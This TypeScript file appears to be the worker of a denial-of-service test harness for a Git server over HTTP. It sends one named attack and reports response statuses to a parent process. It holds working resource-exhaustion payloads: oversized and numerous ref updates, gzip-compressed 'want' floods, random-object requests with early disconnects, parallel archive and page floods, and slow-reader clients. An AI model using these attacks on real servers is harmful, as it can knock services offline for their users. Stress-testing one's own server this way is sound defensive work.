// Runs one attack in its own process and reports the responses to its parent.
import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { type ClientRequest, type IncomingMessage, request } from 'node:http'
import { setTimeout as pause } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'

const [name = '', url = '', token = '', argument = '', rounds = ''] = process.argv.slice(2)
process.on('disconnect', () => process.exit())

const zero = '0'.repeat(40)
const line = (text: string) => `${(text.length + 4).toString(16).padStart(4, '0')}${text}`

/** The status and the start of the body. */
interface TestResponse {
  status: number
  text: string
}

function open(path: string, headers: Record<string, string> = {}, method = 'GET'): ClientRequest {
  const outgoing = request(url + path, {
    method,
    agent: false,
    headers: { 'user-agent': 'attacker', ...headers },
  })
  outgoing.on('error', () => {})
  return outgoing
}

async function finish(outgoing: ClientRequest): Promise<TestResponse> {
  if (!outgoing.writableEnded) outgoing.end()
  const [response]: [IncomingMessage] = await Promise.race([
    once(outgoing, 'response') as Promise<[IncomingMessage]>,
    once(outgoing, 'close').then(() => Promise.reject(new Error('closed'))),
  ])
  let text = ''
  for await (const chunk of response) if (text.length < 2_000) text += chunk.toString('latin1')
  return { status: response.statusCode ?? 0, text }
}

async function send(path: string, body: Buffer, headers: Record<string, string>): Promise<TestResponse> {
  const outgoing = open(path, { ...headers, 'content-length': String(body.length) }, 'POST')
  outgoing.end(body)
  return finish(outgoing).catch((error: unknown) => ({ status: 0, text: String(error) }))
}

const push = (body: Buffer, isGzip: boolean) =>
  send('/demo/sea.git/git-receive-pack', body, {
    authorization: `Bearer ${token}`,
    'content-type': 'application/x-git-receive-pack-request',
    ...(isGzip ? { 'content-encoding': 'gzip' } : {}),
  })
const fetchHeaders = {
  'content-type': 'application/x-git-upload-pack-request',
  'content-encoding': 'gzip',
  'git-protocol': 'version=2',
}
const fetch2 = ['command=fetch', 'agent=attacker', 'object-format=sha1'].map(line).join('')

/** Runs sequences of requests side by side. */
async function repeat(parallel: number, work: (at: number) => Promise<TestResponse>) {
  const responses: TestResponse[] = []
  const times = Number(rounds)
  await Promise.all(
    Array.from({ length: parallel }, async (_, lane) => {
      for (let at = 0; at < times; at++) responses.push(await work(lane * times + at))
    }),
  )
  return responses
}

const capabilities = '\0report-status side-band-64k'

const attacks: Record<string, () => Promise<TestResponse[]>> = {
  /** 1,600 refs of 65 kB. */
  async 'long refs'() {
    const refs = Array.from({ length: 1_600 }, (_, at) => {
      const start = `${zero} ${'1'.repeat(40)} refs/heads/${at}-`
      const end = at === 0 ? capabilities : ''
      return line(start + 'a'.repeat(65_500 - start.length - end.length) + end)
    })
    const body = gzipSync(`${refs.join('')}0000`)
    return repeat(2, () => push(body, true))
  },
  async 'many refs'() {
    const refs = Array.from({ length: 75_000 }, (_, at) =>
      line(`${zero} ${'1'.repeat(40)} refs/heads/b-${at}${at === 0 ? capabilities : ''}`),
    )
    const body = Buffer.from(`${refs.join('')}0000`)
    return repeat(2, () => push(body, false))
  },
  /** 64 MB of wants in 195 kB. */
  async 'equal wants'() {
    const want = line(`want ${argument}\n`)
    const body = gzipSync(
      `${fetch2}0001${want.repeat((64 * 1024 * 1024) / want.length)}${line('done\n')}0000`,
    )
    return repeat(8, () => send('/demo/sea.git/git-upload-pack', body, fetchHeaders))
  },
  /** As many missing objects as the limit allows, and clients that leave. */
  async 'random wants'() {
    const wants = Array.from({ length: 100_000 }, () => line(`want ${randomBytes(20).toString('hex')}\n`))
    const body = gzipSync(`${fetch2}0001${wants.join('')}${line('done\n')}0000`)
    return repeat(8, async (at) => {
      const outgoing = open('/demo/sea.git/git-upload-pack', fetchHeaders, 'POST')
      outgoing.end(body)
      if (at % 2 === 0)
        return finish(outgoing).catch((error: unknown) => ({ status: 0, text: String(error) }))
      await pause(100)
      outgoing.destroy()
      return { status: 0, text: 'left' }
    })
  },
  async archives() {
    return repeat(50, async () => {
      const { status, text } = await finish(open(argument)).catch(() => ({ status: 0, text: '' }))
      return { status, text: text.slice(0, 20) }
    })
  },
  /** Clients that request an archive and never read it, until the attack is stopped. */
  async 'slow readers'() {
    const all = Array.from({ length: 50 }, () => {
      const outgoing = open(argument)
      outgoing.on('response', (response) => response.pause())
      outgoing.end()
      return outgoing
    })
    await once(process, 'message')
    for (const outgoing of all) outgoing.destroy()
    return []
  },
  async pages() {
    const paths = argument.split(' ')
    return repeat(50, async (at) => {
      const { status, text } = await finish(open(paths[at % paths.length] ?? '/', { accept: 'text/html' }))
      return { status, text: text.slice(0, 20) }
    })
  },
}

async function finishAll(): Promise<void> {
  const responses = (await attacks[name]?.()) ?? []
  const statuses: Record<string, number> = {}
  for (const { status } of responses) statuses[status] = (statuses[status] ?? 0) + 1
  process.send?.({
    statuses,
    texts: [...new Set(responses.map(({ text }) => text.slice(0, 300)))].slice(0, 5),
  })
}

process.once('message', () => finishAll())
process.send?.('ready')
